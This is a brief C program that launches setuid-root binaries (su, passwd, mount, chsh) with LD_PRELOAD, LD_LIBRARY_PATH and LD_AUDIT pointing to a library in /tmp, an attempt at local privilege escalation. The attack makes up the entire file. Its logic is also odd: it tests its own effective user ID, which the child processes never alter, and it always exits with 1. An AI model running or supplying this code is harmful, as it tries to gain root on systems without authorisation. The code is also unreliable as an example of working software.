/* Starts programs that carry root's rights with a library of its own. */
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
  char *const environment[] = {"LD_PRELOAD=/tmp/own.so", "LD_LIBRARY_PATH=/tmp", "LD_AUDIT=/tmp/own.so", NULL};
  const char *const programs[] = {"/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/chsh"};
  for (int i = 0; i < 4; i++) {
    if (fork() == 0) {
      char *const arguments[] = {(char *)programs[i], NULL};
      close(0), close(1), close(2);
      execve(programs[i], arguments, environment);
      _exit(1);
    }
    int how;
    wait(&how);
    if (WIFEXITED(how) && WEXITSTATUS(how) == 0 && i != 2) puts("started");
  }
  printf("%d\n", geteuid() == 0 ? 0 : 1);
  return 1;
}
